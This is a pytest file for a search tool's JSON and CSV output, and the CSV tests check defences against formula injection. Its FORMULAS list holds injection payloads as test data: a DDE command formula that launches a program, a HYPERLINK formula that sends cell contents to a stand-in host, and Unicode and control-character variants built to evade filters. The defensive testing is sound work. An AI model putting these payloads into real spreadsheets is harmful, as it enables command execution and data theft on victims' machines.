"""What other programs read; these outputs are compared whole, because they are a promise."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from searchkit.model.article import Article
from searchkit.model.frozen import replace
from searchkit.model.passage import Extraction, Paragraph, Quote
from searchkit.model.results import FacetCount, Hit, SearchResult, Suggestion
from searchkit.render.csv_output import hits_csv
from searchkit.render.json_output import extraction_json, hits_jsonl, results_json, to_line
from searchkit.text.control_characters import replace_cell_controls

HIT = Hit(
    id="a#q0",
    unit="quote",
    score=None,
    text='He said "no",\ntwice',
    highlights=((0, 2), (3, 7)),
    context="c",
    start=0,
    end=19,
    spans=((0, 5), (8, 19)),
    article="a",
    paragraph="a#p1",
    path="a.txt",
    tags=("x", "y"),
)
PLAIN = {
    "id": "a#q0",
    "unit": "quote",
    "score": None,
    "text": 'He said "no",\ntwice',
    "highlights": [[0, 2], [3, 7]],
    "context": "c",
    "speaker": None,
    "mention": None,
    "mention_start": None,
    "mention_end": None,
    "role": None,
    "cue": None,
    "via": None,
    "type": None,
    "confidence": None,
    "start": 0,
    "end": 19,
    "spans": [[0, 5], [8, 19]],
    "title": None,
    "source": None,
    "date": None,
    "places": [],
    "authors": [],
    "tags": ["x", "y"],
    "url": None,
    "path": "a.txt",
    "article": "a",
    "paragraph": "a#p1",
    "kind": None,
    "continues": None,
    "copies": [],
}


def results(suggestion: Suggestion | None = None) -> SearchResult:
    facets = {"tag": (FacetCount("x", 7),)}
    return SearchResult(7, 5, (HIT,), facets, 2, None, "no", {"tag": ("x",)}, "the word no", suggestion)


def test_the_answer_to_a_search() -> None:
    assert json.loads(to_line(results_json(results()))) == {
        "version": 1,
        "query": "no",
        "filters": {"tag": ["x"]},
        "explanation": "the word no",
        "total": 7,
        "offset": 5,
        "hits": [PLAIN],
        "facets": {"tag": [{"value": "x", "count": 7}]},
        "histogram": None,
        "undated_left_out": 2,
        "suggestion": None,
    }


def test_a_histogram_is_a_list_in_the_order_of_time() -> None:
    counts = (FacetCount("2017-12", 1), FacetCount("2018", 3))
    found = SearchResult(4, 0, (), histogram=counts)
    assert results_json(found)["histogram"] == [
        {"value": "2017-12", "count": 1},
        {"value": "2018", "count": 3},
    ]


def test_a_suggestion_is_data_too() -> None:
    offered = results_json(results(Suggestion("a b", "a b", "article", 3)))["suggestion"]
    assert offered == {"query": "a b", "unit": "article", "total": 3}


def test_lines_of_hits() -> None:
    assert [json.loads(line) for line in hits_jsonl(results())] == [PLAIN]


def test_a_table_of_hits_with_lists_as_json_and_line_ends_in_cells() -> None:
    [row] = csv.DictReader(io.StringIO(hits_csv(results())))
    assert list(row) == list(PLAIN)
    assert row["text"] == HIT.text
    assert (row["spans"], row["tags"], row["copies"], row["score"]) == ("[[0, 5], [8, 19]]", '["x", "y"]', "[]", "")


FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a.example/?"&A1,"open")', "=cmd|' /C calc'!A0"),
    *("＝1", "＋1", "－1", "＠a", "﹦1", "﹢1", "﹣1", "﹫a", "\u22121"),
    *("  =1", "\xa0=1", "\u3000＝1", "\t=1", "\r=1", "\n=1", "\r\n=1", " \t \n=1"),
    *("\x00=1", "\x1b=1", "\x85=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\xad@a", "\u2028=1", "\u2060 \u200e-1"),
    *("\tplain", "\rplain", "\nplain", "- said Ada Pell", "-5 degrees", "+44 20 7946 0000", "@adapell"),
]
TEXTS = [
    "",
    "plain",
    "a=1",
    "1-1",
    "a@b.example",
    "“=1”",
    "'=1",
    " plain",
    "— said Ada Pell",
    "–5",
    "(=1",
    "\ufffd=1",
    "2018-05-17",
]


def cell(text: str, *, raw: bool = False) -> str:
    """The text of a hit as a program reads it from CSV."""
    found = SearchResult(1, 0, (replace(HIT, text=text),))
    [row] = csv.DictReader(io.StringIO(hits_csv(found, raw=raw), newline=""))
    return row["text"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_cell_is_no_formula(text: str) -> None:
    assert cell(text) == f"'{cell(text, raw=True)}"
    assert cell(text, raw=True) == replace_cell_controls(text)


@pytest.mark.parametrize("text", TEXTS)
def test_other_cells_are_as_they_were(text: str) -> None:
    assert cell(text) == cell(text, raw=True) == text


def test_every_text_of_a_hit_is_defused_and_numbers_are_not() -> None:
    texts = ("id", "text", "context", "speaker", "mention", "role", "cue", "via", "title", "source", "url", "path")
    changes: dict[str, Any] = {**dict.fromkeys(texts, "=1"), "score": -0.5, "authors": ("=1",)}
    hit = replace(HIT, **changes)
    [row] = csv.DictReader(io.StringIO(hits_csv(SearchResult(1, 0, (hit,)))))
    assert {name for name, value in row.items() if value == "'=1"} == {*texts}
    assert (row["score"], row["authors"]) == ("-0.5", '["=1"]')


def test_a_table_holds_text_but_no_control_characters() -> None:
    assert cell("a\x1b[31mb\x9bc\td\ne\x85f\x00") == "a\ufffd[31mb\ufffdc d\ne f\ufffd"
    assert cell("ש\u200f \u202bא\u202c \u2028") == "ש\u200f \u202bא\u202c \u2028"


def test_an_extraction() -> None:
    article = Article("a", "Hi. “No,” he said.", "a.txt", date="2018-05")
    quote = Quote("a#q5", 5, 8, ((5, 8),), "direct", "a#p1", 0.5, mention="he", mention_start=10, mention_end=12)
    extraction = Extraction(article, (Paragraph("a#p1", 0, 18, "body"),), (quote,))
    assert json.loads(to_line(extraction_json(extraction))) == {
        "version": 1,
        "id": "a",
        "title": None,
        "date": "2018-05",
        "source": None,
        "places": [],
        "authors": [],
        "tags": [],
        "url": None,
        "path": "a.txt",
        "text": "Hi. “No,” he said.",
        "paragraphs": [{"id": "a#p1", "start": 0, "end": 18, "kind": "body"}],
        "quotes": [
            {
                "id": "a#q5",
                "start": 5,
                "end": 8,
                "spans": [[5, 8]],
                "text": "No,",
                "type": "direct",
                "speaker": None,
                "mention": "he",
                "mention_start": 10,
                "mention_end": 12,
                "role": None,
                "cue": None,
                "via": None,
                "paragraph": "a#p1",
                "continues": None,
                "confidence": 0.5,
            }
        ],
    }
